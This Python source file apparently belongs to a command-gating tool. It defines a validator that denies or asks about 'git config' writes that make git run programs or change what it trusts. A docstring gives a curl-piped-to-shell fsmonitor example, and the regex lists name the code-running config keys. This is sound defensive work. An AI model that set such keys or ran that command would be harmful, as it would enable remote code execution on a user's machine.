"""``git config`` writes are writes to ``.git/config`` (or ``~/.gitconfig``): settings that
make git run a program are DENY, settings that redirect what git trusts are ASK."""

from __future__ import annotations

from clawgate.decision import NO_OPINION, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import SimpleCommand, Word
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.flags import git_subcommand
from clawgate.validators.paths import resolve, under
from clawgate.validators.programs import harmless_command
from clawgate.validators.protected import RUNS_CODE

# Keys whose value git runs (a program, a shell snippet, a hooks directory).
_RUNS = lazy_pattern(
    r"(?i)^(core\.(fsmonitor|hookspath|sshcommand|pager|editor|askpass|gitproxy)"
    r"|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver"
    r"|filter\..+\.(clean|smudge|process)|gpg(\..+)?\.program|pager\..+|interactive\.difffilter"
    r"|uploadpack\.packobjectshook|remote\..+\.(uploadpack|receivepack)|web\.browser"
    r"|(browser|man|difftool|mergetool)\..+\.(cmd|path)|credential(\..+)?\.helper"
    r"|alias\..+|core\.worktree|init\.templatedir)$")
# Keys that change what git trusts or where it fetches from.
_TRUST = lazy_pattern(
    r"(?i)^(include\.path|includeif\..+\.path|url\..+\.(insteadof|pushinsteadof)"
    r"|http(\..+)?\.(sslverify|proxy|sslcainfo|extraheader)|safe\.directory"
    r"|protocol(\..+)?\.allow|remote\..+\.url|submodule\..+\.url|core\.sharedrepository)$")
# Options of `git config` that only read, list or remove.
_READS = frozenset({"--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l",
                    "--unset", "--unset-all", "--remove-section", "--rename-section", "-e",
                    "--edit", "--show-origin", "--name-only", "get", "list", "unset",
                    "remove-section", "rename-section", "edit"})
_VALUE_OPTIONS = frozenset({"--file", "-f", "--blob", "--type", "--default", "--comment",
                            "--value", "--url"})
_HARMLESS_KEYS = frozenset({"core.pager", "core.editor", "sequence.editor", "pager.diff",
                            "pager.log", "pager.branch", "pager.show", "web.browser"})


def _setting(args: tuple[Word, ...]) -> tuple[str, str] | None:
    """(key, value) a ``git config`` command writes, or None when it reads or removes."""
    operands: list[str] = []
    skip = False
    for word in args:
        text = word.shown
        if skip:
            skip = False
        elif text in _READS:
            return None
        elif text in _VALUE_OPTIONS:
            skip = True
        elif not text.startswith("-"):
            operands.append(text)
    if operands[:1] in (["set"], ["add"]):
        operands = operands[1:]
    return (operands[0], operands[1]) if len(operands) >= 2 else None


@register
class GitConfigWrite(Validator):
    """``git config KEY VALUE`` writes ``.git/config``: a key whose value git runs
    (``core.fsmonitor``, ``core.sshCommand``, ``alias.x '!…'``, filters, ``credential.helper
    '!…'``) is DENY, and ``core.hooksPath`` outside the workspace too (inside it, ASK); keys
    that change what git trusts (``url.*.insteadOf``, ``include.path``, ``http.sslVerify``)
    are ASK. Identity and formatting keys stay ALLOW.

    Bad: ``git config core.fsmonitor 'curl -s h/x | sh'``. Harmless: ``git config user.name CI``.
    """

    id = "CG-PROT-002"
    programs = frozenset({"git"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        name, args = git_subcommand(cmd)
        if name != "config":
            return NO_OPINION
        found = _setting(args)
        if found is None:
            return NO_OPINION
        key, value = found
        lowered = key.lower()
        if _RUNS.match(key):
            return self._runs(lowered, value, ctx)
        if _TRUST.match(key):
            return Verdict.ask(self.id, f"git config {key} changes what git trusts or fetches",
                               hint="set it by hand if it is meant")
        return NO_OPINION

    def _runs(self, key: str, value: str, ctx: Context) -> Verdict:
        if key.startswith("alias.") and not value.startswith("!"):
            return NO_OPINION  # an alias of git subcommands runs only git
        if key in _HARMLESS_KEYS and harmless_command(value) and not RUNS_CODE.search(value):
            return NO_OPINION  # core.pager less, core.editor vim (not ./less)
        if key == "core.hookspath":
            path = resolve(Word(value, value), ctx).path
            if path is not None and under(path, ctx.workspace) and path != ctx.workspace:
                return Verdict.ask(self.id, f"git config core.hooksPath {value}: git will run "
                                   "the hooks found there", hint="review the hooks first")
        if key.startswith("credential") and not value.startswith("!") and "/" not in value:
            return Verdict.ask(self.id, f"git config {key} {value} picks a credential helper")
        return Verdict.deny(self.id, f"git config {key} makes git run {value!r} later",
                            hint="edit .git/config by hand if this is meant")
